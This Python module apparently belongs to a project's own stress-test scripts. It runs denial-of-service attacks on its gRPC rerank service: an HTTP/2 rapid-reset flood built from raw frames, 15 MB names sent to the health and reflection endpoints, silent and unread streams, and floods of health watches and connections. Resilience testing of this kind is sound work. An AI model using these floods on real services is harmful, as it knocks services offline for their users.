"""Attacks by gRPC calls: calls that send nothing or end at once, long names, health watches, and batches."""

from __future__ import annotations

import asyncio
import random
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from typing import Any

import grpc
from grpc_health.v1 import health_pb2
from grpc_reflection.v1alpha import reflection_pb2

from rerank.v1 import rerank_pb2 as pb
from scripts.attacks.target import Target, status_of
from scripts.http2_frames import call, cancel, preface
from scripts.random_requests import random_request

_METHOD = "/rerank.v1.RerankService/Rerank"
_REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_WATCH = "/grpc.health.v1.Health/Watch"
_TIMEOUT_S = 60.0
_NAME_BYTES = 15 * 2**20
#: How long an attack that sends again and again goes on.
_LENGTH_S = 15.0
#: Calls that are sent and cancelled with one write, and the pause after it.
_RESETS, _RESET_PAUSE_S = 50, 0.016


async def silent_calls(target: Target) -> Counter[str]:
    """Two connections with 500 calls each that send no message; each call that ends is made again."""
    return await _silent(target, connections=2, calls=500)


async def silent_calls_of_many(target: Target) -> Counter[str]:
    """The same with ten calls on each of 100 connections."""
    return await _silent(target, connections=100, calls=10)


async def unread_reflection(target: Target) -> Counter[str]:
    """64 streams of reflection that send 15 MB, read no answer, and stay for 30 s."""

    async def stay() -> str:
        async with Target(target.address, target.http_address) as own:
            request = reflection_pb2.ServerReflectionRequest(file_containing_symbol="x" * (15 * 2**20))
            method: Any = own.channel.stream_stream(_REFLECTION)
            stream = method()
            try:
                await stream.write(request.SerializeToString())
                await asyncio.sleep(30)
            except asyncio.CancelledError:
                return "ended by the service"
            except grpc.aio.AioRpcError as error:
                return error.code().name
            return "ended by the service" if stream.done() else "waiting"

    return Counter(await asyncio.gather(*(stay() for _ in range(64))))


async def long_names_of_health(target: Target) -> Counter[str]:
    """Four connections that watch the health of a service whose name has 15 MB, again and again."""
    message = health_pb2.HealthCheckRequest(service="x" * _NAME_BYTES).SerializeToString()
    return await _repeated_streams(target, _WATCH, message, connections=4)


async def long_names_of_reflection(target: Target) -> Counter[str]:
    """The same with the name of a symbol, on 16 connections."""
    message = reflection_pb2.ServerReflectionRequest(file_containing_symbol="x" * _NAME_BYTES).SerializeToString()
    return await _repeated_streams(target, _REFLECTION, message, connections=16)


async def short_deadlines(target: Target) -> Counter[str]:
    """64 calls at a time of 500 passages to the default, with deadlines of 3 ms and an answer instead of a failure."""
    message = random_request(random.Random(0), "default", 500, 300, on_failure=pb.ON_FAILURE_FIRST_STAGE)
    return await _kept_busy(target, connections=8, calls=8, send=lambda own: own.rerank(message, 0.003))


async def cancelled_calls(target: Target) -> Counter[str]:
    """256 calls at a time of ten passages to pe-rank, that are cancelled after .5 ms."""
    message = random_request(random.Random(0), "pe-rank", 10, 300)
    return await _kept_busy(target, connections=8, calls=32, send=lambda own: own.cancelled_rerank(message, 0.0005))


async def many_connections(target: Target) -> Counter[str]:
    """200 connections with one call at a time, of ten passages to pe-rank."""
    message = random_request(random.Random(0), "pe-rank", 10, 300)
    return await _kept_busy(target, connections=200, calls=1, send=lambda own: own.rerank(message, _TIMEOUT_S))


async def health_watches(target: Target) -> Counter[str]:
    """20,000 watches of the health on 20 connections."""
    targets = [Target(target.address, target.http_address) for _ in range(20)]
    request = health_pb2.HealthCheckRequest().SerializeToString()
    methods: list[Any] = [service.channel.unary_stream(_WATCH) for service in targets]
    calls = [method(request) for method in methods for _ in range(1000)]
    await asyncio.sleep(_LENGTH_S)
    ends = Counter("ended by the service" if watch.done() else "waiting" for watch in calls)
    for service in targets:
        await service.channel.close()
    return ends


async def rapid_resets(target: Target) -> Counter[str]:
    """Four connections that make 3,000 calls/s each and cancel them at once; one that ends is opened again."""
    end_s, opened = time.monotonic() + _LENGTH_S, Counter[str]()

    async def reset() -> None:
        while time.monotonic() < end_s:
            host, _, port = target.address.rpartition(":")
            try:
                reader, writer = await asyncio.open_connection(host, int(port))
            except OSError:
                await asyncio.sleep(_RESET_PAUSE_S)
                continue
            opened["connections"] += 1
            reading = asyncio.create_task(_read_all(reader))
            writer.write(preface())
            number = 1
            while time.monotonic() < end_s and not reading.done():
                streams = range(number, number + 2 * _RESETS, 2)
                writer.write(b"".join(call(stream, _METHOD) + cancel(stream) for stream in streams))
                number = streams.stop
                opened["calls"] += _RESETS
                await asyncio.sleep(_RESET_PAUSE_S)
            reading.cancel()
            writer.transport.abort()

    await asyncio.gather(*(reset() for _ in range(4)))
    return opened


async def batches(target: Target) -> Counter[str]:
    """Eight connections that keep 16 calls each in work, of 200 passages to pe-rank."""
    message = random_request(random.Random(0), "pe-rank", 200, 300)
    return await _kept_busy(target, connections=8, calls=16, send=lambda own: own.rerank(message, _TIMEOUT_S))


async def _kept_busy(
    target: Target, connections: int, calls: int, send: Callable[[Target], Awaitable[str]]
) -> Counter[str]:
    """The statuses of calls that follow one another, `calls` at a time on each connection."""
    end_s, ends = time.monotonic() + _LENGTH_S, Counter[str]()

    async def repeat(own: Target) -> None:
        while time.monotonic() < end_s:
            ends[await send(own)] += 1

    async def client() -> None:
        async with Target(target.address, target.http_address) as own:
            await asyncio.gather(*(repeat(own) for _ in range(calls)))

    await asyncio.gather(*(client() for _ in range(connections)))
    return ends


async def _repeated_streams(target: Target, path: str, message: bytes, connections: int) -> Counter[str]:
    """The statuses of streams with one message, one after the other on each connection."""

    async def stream(own: Target) -> str:
        method: Any = own.channel.stream_stream(path)
        opened = method(iter([message]))
        try:
            await opened.read()
        except grpc.aio.AioRpcError as error:
            return str(error.code().name)
        return "answered"

    return await _kept_busy(target, connections, calls=1, send=stream)


async def _silent(target: Target, connections: int, calls: int) -> Counter[str]:
    end_s, ends = time.monotonic() + _LENGTH_S, Counter[str]()

    async def hold(own: Target) -> None:
        while time.monotonic() < end_s:
            method: Any = own.channel.stream_unary(_METHOD)
            try:
                ends[await asyncio.wait_for(status_of(method()), max(0.1, end_s - time.monotonic()))] += 1
            except TimeoutError:
                ends["open"] += 1

    async def client() -> None:
        async with Target(target.address, target.http_address) as own:
            await asyncio.gather(*(hold(own) for _ in range(calls)))

    await asyncio.gather(*(client() for _ in range(connections)))
    return ends


async def _read_all(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass
